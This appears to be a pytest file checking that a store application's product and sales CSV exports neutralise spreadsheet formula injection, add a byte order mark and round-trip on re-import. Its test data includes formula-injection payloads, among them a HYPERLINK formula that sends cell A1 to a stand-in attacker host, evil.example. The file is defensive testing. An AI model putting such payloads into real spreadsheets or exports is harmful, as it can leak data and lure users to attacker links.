"""Every CSV we write opens safely (no live formulas, a byte order mark) and the product export
reads back exactly."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from db import catalog_io, csv_safe, exports
from db.reports import ExportRow
from tests.factories import make_product, run

TRICKY_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "-5 °C frozen peas",
    "+1 free",
    "@home cleaner",
    "'=already quoted",
    "''-two quotes",
    "'plain apostrophe",
    "Crème brûlée 🍮",
]


@pytest.mark.parametrize("value", [*TRICKY_NAMES, "\tTabbed", "\rReturn", "plain", "", "2.50"])
def test_neutralise_is_undone_exactly_by_restore(value):
    written = csv_safe.neutralise(value)
    assert csv_safe.restore(written) == value
    assert not written[:1] or written[0] not in "=+-@\t\r"


def _cells(text: str) -> list[list[str]]:
    assert text.startswith(csv_safe.BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(csv_safe.BOM))))


async def test_product_export_is_safe_and_round_trips_into_an_empty_store(session_factory, tmp_path):
    for n, name in enumerate(TRICKY_NAMES):
        await run(
            session_factory,
            make_product,
            name=name,
            price_minor=199 + n,
            stock=n,
            sku=f"T-{n}",
            category="-Frozen" if n % 2 else "=SUM(A1)",
            barcode=f"-{n}0000" if n == 1 else None,
            low_stock_threshold=n or None,
        )
    async with session_factory() as session:
        exported = await catalog_io.export_products(session, currency="USD")
    rows = _cells(exported)
    assert rows[0] == list(catalog_io.COLUMNS)
    by_sku = {row[4]: row for row in rows[1:]}
    assert by_sku["T-0"][0] == "'" + TRICKY_NAMES[0] and by_sku["T-0"][3] == "'=SUM(A1)"
    assert by_sku["T-1"][0] == "'-5 °C frozen peas" and by_sku["T-1"][5] == "'-10000"
    assert by_sku["T-1"][1:3] == ["2.00", "1"]  # numbers stay numbers
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)

    # Read back into an empty store, the export is the same file again.
    from db.engine import make_engine, make_session_factory
    from db.models import Base

    engine = make_engine(f"sqlite+aiosqlite:///{tmp_path / 'copy.db'}")
    async with engine.begin() as conn:
        await conn.run_sync(Base.metadata.create_all)
    copy = make_session_factory(engine)
    try:
        parsed, errors = catalog_io.read_rows(io.StringIO(exported), currency="USD")
        assert errors == []
        assert [r.name for r in sorted(parsed, key=lambda r: r.sku)] == TRICKY_NAMES
        assert (await catalog_io.import_rows(copy, rows=parsed)).ok
        async with copy() as session:
            assert await catalog_io.export_products(session, currency="USD") == exported
    finally:
        await engine.dispose()


def test_sales_csv_has_a_bom_neutralised_text_and_numbers_as_numbers():
    row = ExportRow(
        sale_id=7,
        created_at=datetime(2026, 3, 1, 12, 0, tzinfo=UTC),
        cashier_name="@cashier",
        customer_name='=HYPERLINK("http://evil.example","Prize")',
        payment_method="cash",
        sku="-SKU",
        product_name="+Tea",
        quantity=2,
        unit_price_minor=150,
        line_total_minor=300,
    )
    data = exports.to_csv([row], tz=ZoneInfo("Europe/Berlin"), currency="USD")
    assert data.startswith("\ufeff".encode())
    header, line = _cells(data.decode("utf-8"))
    assert header[0] == "Sale"
    assert line == [
        "7",
        "2026-03-01T13:00:00+01:00",
        "'@cashier",
        '\'=HYPERLINK("http://evil.example","Prize")',
        "cash",
        "'-SKU",
        "'+Tea",
        "2",
        "1.50",
        "3.00",
    ]
